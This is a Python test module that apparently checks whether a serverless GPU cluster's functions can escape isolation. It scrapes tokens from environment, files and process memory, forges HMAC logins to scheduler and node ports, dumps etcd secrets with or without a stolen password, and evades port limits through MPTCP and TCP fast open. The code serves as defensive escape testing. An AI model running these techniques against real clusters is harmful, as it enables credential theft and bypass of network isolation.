"""Ways out through the doors of a cluster, tried by functions of its nodes: its scheduler, its nodes, its etcd."""

import base64
import contextlib
import ctypes
import hashlib
import hmac
import http.client
import json
import os
import re
import socket
import struct
from collections.abc import Callable, Iterator
from typing import Any

from tests.ways_out.ways import Facts, call, content, memory_of, way_out

# --- scheduler and nodes ---


def _tokens(facts: Facts) -> Iterator[bytes]:
    """Yield what may be the cluster's token: none, what it calls others with, what it finds in files and memory."""
    yield b""
    yield from (each.encode() for each in re.findall(r"[\w-]{20,}", os.environ.get("OPENFAAS_URL", "")))
    with contextlib.suppress(OSError):
        yield content(facts["token"]).encode()
    for pid in (os.getpid(), facts["node"]):
        with contextlib.suppress(OSError):
            yield from {found for *_, found in memory_of(pid, rb"TOKEN-[0-9a-f]{32}")}


def _enters(facts: Facts, port: int, role: str) -> str:
    """Introduce itself at a door (`gpufaas_cluster.control`) with each token that it has; evidence: one fits."""
    for token in _tokens(facts):
        with socket.create_connection(("127.0.0.1", port), 10) as door:
            challenge = _message(door)
            nonce, name = challenge[-16:], b"thief"
            shown = hmac.digest(token, b"gpufaas\0" + nonce + b"\0" + role.encode() + b"\0" + name, hashlib.sha256)
            texts = [b"%c%s" % (0xA0 + len(each), each) for each in (role.encode(), name, b"boot")]
            hello = b"\x97\x02" + challenge[-19:-18] + b"".join(texts) + b"\xc4\x10" + nonce + b"\xc4\x20" + shown
            door.sendall(struct.pack("<I", len(hello)) + hello)
            welcome, turned = 3, 4
            said = _message(door)[1]
            assert said in (welcome, turned), said
            if said == welcome:
                return f"welcome, {role}, with {token!r}"
    return ""


def _message(door: socket.socket) -> bytes:
    size = struct.unpack("<I", door.recv(4, socket.MSG_WAITALL))[0]
    return door.recv(size, socket.MSG_WAITALL)


@way_out("enters the scheduler's door as a gateway", in_cluster=True)
def door_of_the_scheduler(facts: Facts) -> str:
    return _enters(facts, facts["scheduler_port"], "gateway")


@way_out("enters the scheduler's door as a node", in_cluster=True)
def door_of_the_scheduler_for_nodes(facts: Facts) -> str:
    return _enters(facts, facts["scheduler_port"], "node")


@way_out("enters the door of its node, where all calls come from", in_cluster=True)
def door_of_its_node(facts: Facts) -> str:
    return _enters(facts, facts["node_port"], "gateway")


@way_out("reads the metrics of the scheduler, the gateway and its node", in_cluster=True)
def metrics_of_services(facts: Facts) -> str:
    found = ""
    for port in facts["status_ports"]:
        with contextlib.closing(http.client.HTTPConnection("127.0.0.1", port, timeout=10)) as service:
            service.request("GET", "/metrics")
            answer = service.getresponse()
            found += answer.read().decode() if answer.status == 200 else ""
    return found


# --- etcd ---


def _etcd(facts: Facts, path: str, **asked: str) -> dict[str, Any]:
    with contextlib.closing(http.client.HTTPConnection("127.0.0.1", facts["etcd_port"], timeout=10)) as etcd:
        token = {"Authorization": facts["etcd_token"]} if "etcd_token" in facts else {}
        etcd.request("POST", path, json.dumps(asked), token)
        answer = etcd.getresponse()
        text = answer.read()
    if answer.status >= 300:
        raise PermissionError(text[:200])
    found: dict[str, Any] = json.loads(text)
    return found


def _all_keys(facts: Facts) -> str:
    first, end = (base64.b64encode(each).decode() for each in (b"/gpufaas/", b"/gpufaas0"))
    found = _etcd(facts, "/v3/kv/range", key=first, range_end=end)
    return "".join(base64.b64decode(each["value"]).decode("latin-1") for each in found.get("kvs", ()))


@way_out("reads all functions' variables from etcd without a login", "variable", in_cluster=True)
def etcd_without_a_login(facts: Facts) -> str:
    return _all_keys(facts)


@way_out("reads all functions' variables from etcd with the password of its node", "variable", in_cluster=True)
def etcd_with_the_password_of_its_node(facts: Facts) -> str:
    found = [*([content(facts["etcd_password"])] if os.access(facts["etcd_password"], os.R_OK) else ())]
    with contextlib.suppress(OSError):
        found += [text.decode() for *_, text in memory_of(facts["node"], rb"ETCD-[0-9a-f]{32}")]
    for password in found:
        login = _etcd(facts, "/v3/auth/authenticate", name="gpufaas", password=password)
        return _all_keys(facts | {"etcd_token": login["token"]})
    return ""


# --- etcd's port, where a function may not connect to it ---

_FAST_OPEN = 0x2000_0000
_ASKS = b"GET /health HTTP/1.0\r\n\r\n"


class _Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class _Header(ctypes.Structure):
    """What sendmsg and sendmmsg send."""

    _fields_ = [
        ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("vectors", ctypes.c_void_p),
        ("count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int), ("sent", ctypes.c_uint32),
    ]  # fmt: skip


def _by_sendmmsg(tcp: socket.socket, address: tuple[str, int]) -> None:
    asked = ctypes.create_string_buffer(_ASKS, len(_ASKS))
    name = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", address[1], socket.inet_aton(address[0]))
    named = ctypes.create_string_buffer(name, len(name))
    vector = _Vector(ctypes.addressof(asked), len(_ASKS))
    header = _Header(ctypes.addressof(named), len(name), ctypes.addressof(vector), 1)
    call("sendmmsg", tcp.fileno(), ctypes.byref(header), 1, _FAST_OPEN)


def _by_option(tcp: socket.socket, address: tuple[str, int]) -> None:
    tcp.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT: the first write connects
    tcp.connect(address)
    tcp.sendall(_ASKS)


def _by_connect(tcp: socket.socket, address: tuple[str, int]) -> None:
    tcp.connect(address)
    tcp.sendall(_ASKS)


Connects = Callable[[socket.socket, tuple[str, int]], object]
CONNECTS: dict[str, tuple[int, Connects]] = {
    "TCP": (0, _by_connect),
    "MPTCP": (262, _by_connect),
    "TCP fast open and sendto": (0, lambda tcp, address: tcp.sendto(_ASKS, _FAST_OPEN, address)),
    "TCP fast open and sendmsg": (0, lambda tcp, address: tcp.sendmsg([_ASKS], [], _FAST_OPEN, address)),
    "TCP fast open and sendmmsg": (0, _by_sendmmsg),
    "TCP fast open, as an option": (0, _by_option),
}


def _register(by: str, protocol: int, connects: Connects) -> None:
    def tries(facts: Facts) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as tcp:
            for each in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):  # it blocks: else fast open says "in progress"
                tcp.setsockopt(socket.SOL_SOCKET, each, struct.pack("ll", 10, 0))
            connects(tcp, ("127.0.0.1", facts["etcd_port"]))
            return tcp.recv(100).decode("latin-1")

    tries.__name__ = f"connects by {by}"
    way_out(f"connects to etcd by {by}, where its ports are limited", "http", in_cluster=True)(tries)


for _by, (_protocol, _connects) in CONNECTS.items():
    _register(_by, _protocol, _connects)
